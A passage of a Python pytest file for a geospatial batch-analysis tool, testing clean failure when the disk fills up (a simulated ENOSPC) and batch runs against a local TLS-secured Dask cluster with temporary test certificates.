    with pytest.raises(mg.DiskFullError) as err:
        mg.study.write(demo_result, out)
    text = str(err.value)
    assert "disk filled up" in text and str(out) in text and "need about" in text and "MiB" in text
    assert list(tiny_disk.iterdir()) == []  # nothing half-written, no hidden partial folder


def test_no_space_from_the_writer_is_reported_with_the_folder(demo_result, tmp_path, monkeypatch):
    """Without root: the writer itself reports ENOSPC, as it does on a full disk."""
    import errno

    import pyogrio

    calls = []

    def full_after_one_layer(real):
        def write(df, path, *args, **kwargs):
            calls.append(path)
            if len(calls) > 1:
                raise OSError(errno.ENOSPC, "No space left on device", str(path))
            return real(df, path, *args, **kwargs)

        return write

    # the layers go through pyogrio's array writer; anything unusual through write_dataframe
    monkeypatch.setattr(pyogrio.raw, "write", full_after_one_layer(pyogrio.raw.write))
    monkeypatch.setattr(pyogrio, "write_dataframe", full_after_one_layer(pyogrio.write_dataframe))
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "mine.txt").write_text("kept", encoding="utf-8")  # a file of the user's: not touched
    with pytest.raises(mg.DiskFullError, match=r"disk filled up while writing the results into .*results"):
        mg.study.write(demo_result, tmp_path / "results", overwrite=True)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["results"]
    assert [p.name for p in (tmp_path / "results").iterdir()] == ["mine.txt"]


@pytest.mark.slow
def test_batch_on_an_existing_tls_cluster_takes_its_certificates(tmp_path):
    """``--scheduler`` with ``--tls-ca-file/--tls-cert/--tls-key``: the run goes through; the
    same address without them is refused by the cluster, with a clear error."""
    from dask.distributed import LocalCluster
    from distributed.security import Security

    path = shared_path(OSM_FILES["liechtenstein"])
    towns = batch.towns_from_osm(path, admin_level="8")
    towns[towns["name"] == "Planken"].to_file(tmp_path / "towns.gpkg")
    (tmp_path / "study.yaml").write_text(yaml.safe_dump(BATCH_STUDY), encoding="utf-8")
    sec = Security.temporary()  # PEM text in memory: written out as the files a cluster admin hands out
    (tmp_path / "ca.pem").write_text(sec.tls_ca_file, encoding="ascii")
    (tmp_path / "client.pem").write_text(sec.tls_client_cert, encoding="ascii")
    (tmp_path / "client.key").write_text(sec.tls_client_key, encoding="ascii")
    args = ["batch", str(tmp_path / "towns.gpkg"), "--osm", str(path), "--study", str(tmp_path / "study.yaml")]
    with LocalCluster(
        n_workers=1, threads_per_worker=1, processes=False, security=sec, host="127.0.0.1", dashboard_address="127.0.0.1:0"
    ) as cluster:
        address = cluster.scheduler_address
        assert address.startswith("tls://")
        tls = ["--tls-ca-file", str(tmp_path / "ca.pem"), "--tls-cert", str(tmp_path / "client.pem")]
        tls += ["--tls-key", str(tmp_path / "client.key")]
        ok = runner.invoke(app, [*args, "--out", str(tmp_path / "ok"), "--scheduler", address, *tls])
        assert ok.exit_code == 0, ok.output
        assert "1 towns: 1 done, 0 failed" in ok.output
        refused = runner.invoke(app, [*args, "--out", str(tmp_path / "refused"), "--scheduler", address.replace("tls", "tcp")])
        assert refused.exit_code == 2 and "Traceback" not in refused.output
        assert "cannot connect to the Dask scheduler tcp://127.0.0.1" in refused.output and "--tls-ca-file" in refused.output
    summary = pd.read_csv(tmp_path / "ok" / "summary.csv", encoding="utf-8-sig")
    assert summary["status"].tolist() == ["done"]
    # the TLS flags need a scheduler, and each other
    alone = runner.invoke(app, [*args, "--out", str(tmp_path / "x"), "--tls-cert", str(tmp_path / "client.pem")])
    assert alone.exit_code == 2 and "are for --scheduler" in alone.output
    half = runner.invoke(
        app, [*args, "--out", str(tmp_path / "x"), "--scheduler", address, "--tls-cert", str(tmp_path / "client.pem")]
    )
    assert half.exit_code == 2 and "give both --tls-ca-file and --tls-cert" in half.output
    missing = [*args, "--out", str(tmp_path / "x"), "--scheduler", address, "--tls-ca-file", str(tmp_path / "no.pem")]
    gone = runner.invoke(app, [*missing, "--tls-cert", str(tmp_path / "client.pem")])
    assert gone.exit_code == 2 and "--tls-ca-file" in gone.output and "does not exist" in gone.output
    assert not (tmp_path / "x").exists()
